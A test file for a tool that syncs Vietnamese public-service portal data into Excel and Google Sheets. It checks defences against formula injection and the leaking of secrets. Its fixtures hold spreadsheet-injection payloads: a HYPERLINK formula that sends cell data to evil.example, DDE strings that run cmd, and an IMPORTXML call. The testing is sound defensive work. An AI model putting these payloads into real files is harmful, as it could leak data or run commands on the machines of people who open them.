// Security of the sync: hostile portal and sheet text stays text (no formulas), secrets never printed, logged or written.
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { type FakePortal, startFakePortal } from '../../fakes/portal/server';
import { type FakeSheets, startFakeSheets, valuesOf } from '../../fakes/sheets-api/server';
import { ENTRIES, inputSheets, portalItems, UNITS, writeProvinceXlsx } from '../fixtures';
import { LOG_TAB, logRecords, runCli, stderrLines, xlsxParts } from './harness';

const ARGS = ['--through', '2020-03', '--concurrency', '1', '--retries', '1', '--timeout', '2'];

/** Text a spreadsheet program would run as a formula (or a DDE command) if it were written as one. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  '=1+1',
];

/** The province's portal items plus one item per hostile agency code, hostile procedure codes too. */
const hostileItems = (year: number, month: number) => [
  ...portalItems(year, month),
  ...HOSTILE.map((code, i) => ({
    agencyCode: code,
    procedureCode: i % 2 === 0 ? '1.000456' : `=IMPORTXML("http://evil.example","//a")${i}`,
    year,
    month,
    resolvedCount: 7,
    resolvedOnlineCount: 2,
  })),
];

/** A unit whose name and e-mail are formulas typed as text in Đơn vị. */
const HOSTILE_UNITS = [
  ...UNITS,
  ['ZZ1', '=HYPERLINK("http://evil.example","Sở")', 'SBN', '', '', '', '@evil'],
];

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'dvc-security-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('no formula injection', () => {
  test('.xlsx: portal codes and sheet text starting with = + - @ are written as plain strings, no <f> anywhere', async () => {
    const book = join(dir, 'inject.xlsx');
    await writeProvinceXlsx(book, { 'Đơn vị': HOSTILE_UNITS });
    const portal = await startFakePortal({ items: hostileItems, serverPageSize: 5 });
    try {
      const result = await runCli(['--workbook', book, '--portal', portal.url, ...ARGS]);
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
    } finally {
      await portal.close();
    }
    const parts = await xlsxParts(book);
    const sheetsXml = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheetsXml.length).toBeGreaterThanOrEqual(10);
    for (const [name, xml] of sheetsXml) {
      expect({ name, formulas: xml.match(/<f[ >]/g) ?? [] }).toEqual({ name, formulas: [] });
    }
    // Every hostile text is there, as a string cell of the output tabs.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(book);
    const found = new Map<string, string[]>();
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula)
            throw new Error(`formula in ${sheet.name}!${cell.address}`);
          const text = typeof cell.value === 'string' ? cell.value : '';
          for (const hostile of [...HOSTILE, HOSTILE_UNITS.at(-1)?.[1] as string]) {
            if (text.includes(hostile)) found.set(hostile, [...(found.get(hostile) ?? []), sheet.name]);
          }
        }),
      );
    }
    for (const code of HOSTILE) {
      // Unmapped agency codes are kept under their own code in Dữ liệu Cổng DVC and warned about in Kiểm tra.
      expect(found.get(code)).toEqual(expect.arrayContaining(['Dữ liệu Cổng DVC', 'Kiểm tra']));
    }
    expect(found.get(HOSTILE_UNITS.at(-1)?.[1] as string)).toEqual(
      expect.arrayContaining(['Đơn vị', 'Tỷ lệ', 'Xếp hạng']),
    );
  });

  test('Google Sheets: the same texts arrive as stringValue (the fake refuses any formulaValue)', async () => {
    const token = 'ya29.injection-test';
    const fake = await startFakeSheets({
      token,
      spreadsheet: {
        spreadsheetId: '1InjectionSheetId0123456789abcdef',
        locale: 'en_US',
        sheets: [...inputSheets(HOSTILE_UNITS, ENTRIES)],
      },
    });
    const portal = await startFakePortal({ items: hostileItems, serverPageSize: 5 });
    try {
      const result = await runCli(
        ['--workbook', '1InjectionSheetId0123456789abcdef', '--portal', portal.url, ...ARGS],
        { SHEETS_API_ROOT: fake.rootUrl, GOOGLE_OAUTH_ACCESS_TOKEN: token },
      );
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      const sheet = (title: string) => fake.spreadsheet.sheets.find((s) => s.title === title);
      const portalTab = sheet('Dữ liệu Cổng DVC');
      for (const code of HOSTILE) {
        const cells = (portalTab?.cells ?? []).flat().filter((c) => c?.kind === 'text' && c.value === code);
        expect(cells.length).toBe(3); // one row per month, 01–03/2020
      }
      const ratio = valuesOf(sheet('Tỷ lệ'));
      expect(ratio.some((row) => row.includes(HOSTILE_UNITS.at(-1)?.[1]))).toBe(true);
      // Any formula would have made the fake answer 400; and no cell of any tab holds one.
      const body = JSON.stringify(fake.requests.map((r) => r.body));
      expect(body).not.toContain('formulaValue');
    } finally {
      await portal.close();
      await fake.close();
    }
  });
});

describe('secrets never printed, logged or written', () => {
  const PORTAL_TOKEN = 'PORTALSECRET-7f3a9c51e2';
  const OAUTH_TOKEN = 'ya29.OAUTHSECRET-b81d44f0';

  /** Asserts none of `secrets` appears in `texts`, naming where it was found. */
  const expectClean = (texts: Record<string, string>, secrets: readonly string[]) => {
    for (const [where, text] of Object.entries(texts)) {
      for (const secret of secrets)
        expect({ where, leaked: text.includes(secret) }).toEqual({ where, leaked: false });
    }
  };

  test('PORTAL_TOKEN: succeeding and failing runs, a portal that echoes it in error bodies; stdout, stderr, every xlsx part', async () => {
    const book = join(dir, 'secret.xlsx');
    await writeProvinceXlsx(book);
    const runs: Record<string, string> = {};
    const portals: [string, FakePortal][] = [
      ['success', await startFakePortal({ items: portalItems, serverPageSize: 4 })],
      [
        'http-400-echo',
        await startFakePortal({
          items: portalItems,
          fault: (r) => ({ kind: 'status', status: 400, body: `{"error":"bad token ${r.authorization}"}` }),
        }),
      ],
      [
        'http-500-echo',
        await startFakePortal({
          items: portalItems,
          fault: (r) => ({ kind: 'status', status: 500, body: `upstream said: ${r.authorization}` }),
        }),
      ],
      [
        'http-401',
        await startFakePortal({ items: portalItems, fault: () => ({ kind: 'status', status: 401 }) }),
      ],
    ];
    const codes: number[] = [];
    for (const [name, portal] of portals) {
      const result = await runCli(['--workbook', book, '--portal', portal.url, ...ARGS], { PORTAL_TOKEN });
      await portal.close();
      // The token was really sent, so the portal had it to echo.
      expect(portal.requests[0]?.authorization).toBe(`Bearer ${PORTAL_TOKEN}`);
      codes.push(result.code ?? -1);
      runs[`${name} stdout`] = result.stdout;
      runs[`${name} stderr`] = result.stderr;
      if (name !== 'success') {
        expect(stderrLines(result)).toHaveLength(1);
        // Redacted, not silently dropped, where the portal's own text is shown.
        if (name === 'http-400-echo') expect(result.stderr).toContain('Bearer ***');
      }
    }
    expect(codes).toEqual([0, 3, 3, 3]);
    for (const [part, text] of await xlsxParts(book)) runs[`xlsx ${part}`] = text;
    expectClean(runs, [PORTAL_TOKEN]);
    // Four runs, four log rows, none with the token.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(book);
    const logSheet = workbook.getWorksheet(LOG_TAB);
    const grid: unknown[][] = [];
    logSheet?.eachRow((row) => grid.push((row.values as unknown[]).slice(1)));
    expect(logRecords(grid).map((r) => r['Kết quả'])).toEqual([
      'Thành công',
      'Thất bại',
      'Thất bại',
      'Thất bại',
    ]);
  });

  test('a password in the --portal URL: refused before any request (exit 2), never quoted', async () => {
    const book = join(dir, 'url-secret.xlsx');
    await writeProvinceXlsx(book);
    const portal = await startFakePortal({ items: portalItems, serverPageSize: 4 });
    const password = 'URLPASSWORD-5d2e91';
    try {
      const withPassword = portal.url.replace('http://', `http://dvc-sync:${password}@`);
      const result = await runCli(['--workbook', book, '--portal', withPassword, ...ARGS]);
      expect(result.code).toBe(2);
      expect(stderrLines(result)).toEqual([
        expect.stringMatching(
          /^Lỗi đồng bộ \[USAGE\]: Địa chỉ --portal không được chứa tên đăng nhập hay mật khẩu/,
        ),
      ]);
      expect(portal.requests).toHaveLength(0);
      const texts: Record<string, string> = { stdout: result.stdout, stderr: result.stderr };
      for (const [part, text] of await xlsxParts(book)) texts[`xlsx ${part}`] = text;
      expectClean(texts, [password]);
      expect(Object.values(texts).some((t) => t.includes('Địa chỉ --portal không được chứa'))).toBe(true);
    } finally {
      await portal.close();
    }
  });

  test('GOOGLE_OAUTH_ACCESS_TOKEN: a Sheets error that echoes it, and a good run; stdout, stderr and every tab', async () => {
    const id = '1SecretSheetId0123456789abcdefgh';
    let failing = true;
    const fake: FakeSheets = await startFakeSheets({
      token: OAUTH_TOKEN,
      spreadsheet: {
        spreadsheetId: id,
        locale: 'vi_VN',
        sheets: [...inputSheets()],
      },
      fault: (r) =>
        failing && r.method === 'POST' && JSON.stringify(r.body).includes('Tỷ lệ')
          ? { code: 400, message: `Invalid value for token ${r.authorization}`, status: 'INVALID_ARGUMENT' }
          : undefined,
    });
    const texts: Record<string, string> = {};
    try {
      const env = { SHEETS_API_ROOT: fake.rootUrl, GOOGLE_OAUTH_ACCESS_TOKEN: OAUTH_TOKEN };
      const bad = await runCli(['--workbook', id, ...ARGS], env);
      expect(bad.code).toBe(4);
      expect(bad.stderr).toContain('Bearer ***');
      failing = false;
      const good = await runCli(['--workbook', id, ...ARGS], env);
      expect(good.code).toBe(0);
      Object.assign(texts, {
        'bad stdout': bad.stdout,
        'bad stderr': bad.stderr,
        'good stdout': good.stdout,
        'good stderr': good.stderr,
      });
      for (const sheet of fake.spreadsheet.sheets)
        texts[`tab ${sheet.title}`] = JSON.stringify(valuesOf(sheet));
      expect(
        logRecords(valuesOf(fake.spreadsheet.sheets.find((s) => s.title === LOG_TAB))).map(
          (r) => r['Kết quả'],
        ),
      ).toEqual(['Thất bại', 'Thành công']);
    } finally {
      await fake.close();
    }
    expectClean(texts, [OAUTH_TOKEN, OAUTH_TOKEN.slice(5)]);
  });

  test('service-account key: a good key whose token exchange fails, a key file that is not JSON, a missing one', async () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const keyBody = pem.split('\n')[5] as string; // a line from the middle of the key
    const keyId = 'KEYIDSECRET-0c9e7a12';
    const good = join(dir, 'sa.json');
    writeFileSync(
      good,
      JSON.stringify({
        type: 'service_account',
        project_id: 'dvc-test',
        private_key_id: keyId,
        private_key: pem,
        client_email: 'dvc-sync@dvc-test.iam.gserviceaccount.com',
        client_id: '1',
        token_uri: 'https://oauth2.googleapis.com/token',
      }),
    );
    const notJson = join(dir, 'sa-broken.json');
    writeFileSync(notJson, `{"private_key_id": "${keyId}", "private_key": "${pem.replace(/\n/g, '\\n')}",,}`);
    const fake = await startFakeSheets({
      token: 'unused',
      spreadsheet: { spreadsheetId: '1ServiceAccountSheet0123456789ab', locale: 'en_US', sheets: [] },
    });
    // A loopback "proxy" that refuses every tunnel: the token exchange with Google goes there, no traffic leaves.
    let tunnels = 0;
    const proxy = createServer((socket) => {
      tunnels++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const proxyUrl = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
    const texts: Record<string, string> = {};
    const tunnelsPerRun: number[] = [];
    try {
      for (const [name, keyFile, pattern] of [
        ['good key', good, /^Lỗi đồng bộ \[UNAVAILABLE\]: Google Sheets tạm thời không phục vụ được/],
        [
          'not JSON',
          notJson,
          /^Lỗi đồng bộ \[AUTH\]: Tệp ".*sa-broken\.json" \(biến GOOGLE_APPLICATION_CREDENTIALS\) không phải là tệp khóa tài khoản dịch vụ Google \(nội dung không phải JSON\)/,
        ],
        [
          'missing',
          join(dir, 'none.json'),
          /^Lỗi đồng bộ \[AUTH\]: Không đọc được tệp khóa tài khoản dịch vụ/,
        ],
      ] as const) {
        const result = await runCli(['--workbook', '1ServiceAccountSheet0123456789ab', '--retries', '0'], {
          SHEETS_API_ROOT: fake.rootUrl,
          GOOGLE_APPLICATION_CREDENTIALS: keyFile,
          HTTPS_PROXY: proxyUrl,
        });
        tunnelsPerRun.push(tunnels);
        expect(result.code).toBe(4);
        const lines = stderrLines(result);
        expect(lines).toHaveLength(1);
        expect(lines[0]).toMatch(pattern);
        texts[`${name} stdout`] = result.stdout;
        texts[`${name} stderr`] = result.stderr;
      }
      // Nothing reached the Sheets stand-in without credentials; only the good key tried the token exchange.
      expect(fake.requests).toHaveLength(0);
      // 3 tunnels: google-auth-library retries the token exchange itself (our --retries 0 is for Sheets calls).
      expect(tunnelsPerRun).toEqual([3, 3, 3]);
    } finally {
      await fake.close();
      await new Promise((resolve) => proxy.close(resolve));
    }
    expectClean(texts, [keyBody, keyId, 'PRIVATE KEY']);
    // google-auth-library backs off between its 3 token attempts: about 25 s alone, far more on a loaded machine.
  }, 180_000);
});
